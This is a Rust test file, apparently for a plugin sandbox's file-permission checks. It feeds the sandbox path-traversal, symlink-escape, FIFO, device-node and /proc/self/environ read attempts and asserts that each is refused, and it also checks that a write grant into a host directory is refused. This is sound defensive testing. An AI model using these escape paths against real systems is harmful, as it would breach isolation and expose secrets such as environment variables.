    let everything = json!({"read": ["/"]});
    let started = Instant::now();
    let o = run_with(
        w,
        vec![
            files_attack(
                "control",
                "files-read",
                &g(&granted.join("ok.txt")),
                only_granted.clone(),
            ),
            files_attack(
                "outside",
                "files-read",
                &g(&w.join("secret.txt")),
                only_granted.clone(),
            ),
            files_attack(
                "dotdot",
                "files-read",
                &format!("{}/../secret.txt", g(&granted)),
                only_granted.clone(),
            ),
            files_attack(
                "symlink",
                "files-read",
                &g(&granted.join("escape")),
                only_granted.clone(),
            ),
            files_attack("fifo", "files-read", &g(&fifo), only_granted.clone()),
            files_attack("node", "files-read", &g(&zero), only_granted.clone()),
            files_attack("list-outside", "files-list", &g(w), only_granted),
            files_attack(
                "environ",
                "files-read",
                "/proc/self/environ",
                everything.clone(),
            ),
            files_attack("device", "files-read", "/dev/zero", everything.clone()),
            files_attack("list-proc", "files-list", "/proc", everything),
        ],
        json!({}),
    );
    // A FIFO is refused without being opened for reading: nothing waited on it.
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(o.run.code, 1);
    assert_eq!(o.source("control")["ok"], true, "{}", o.run.stderr);
    for (id, why) in [
        ("outside", "not inside any granted path"),
        ("dotdot", "not inside any granted path"),
        ("symlink", "escape"),
        ("fifo", "not a regular file"),
        ("list-outside", "not inside any granted path"),
        ("node", "not a regular file"),
        ("environ", "skipped: on a pseudo-filesystem (proc)"),
        ("device", "skipped: on a pseudo-filesystem (devtmpfs)"),
        ("list-proc", "skipped: on a pseudo-filesystem"),
    ] {
        let e = o.error(id);
        assert!(e.contains(why), "{id}: {e}");
    }
    let all = o.run.all();
    assert!(!all.contains("outside-secret"));
    assert!(!all.contains("host-secret-value"));
}

#[test]
fn a_write_grant_into_a_host_directory_is_refused_before_anything_is_made() {
    let work = tempfile::tempdir().unwrap();
    // The compile cache is one of the host's own directories (tests share one).
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("compile-cache");
    let inside = cache.join(format!("made-by-a-grant-{}", std::process::id()));
    let sneaky = json!({
        "id": "sneaky",
        "type": "hostile",
        "plugin": fixture("backups_test_fixtures.wasm"),
        "mode": "good",
        "passphrase": "pw-pw-pw",
        "grants": {"write": [inside]},
        "allow_risky_grants": true
    });
    let o = run_with(work.path(), vec![sneaky], json!({}));
    assert_eq!(o.source("good")["ok"], true, "{}", o.run.stderr);
    assert_eq!(o.source("sneaky")["ok"], false, "{}", o.run.stderr);
    assert!(
        o.run.all().contains("host's own directory"),
        "{}",
        o.run.all()
    );
    assert!(!inside.exists(), "the refused grant's directory was made");
}
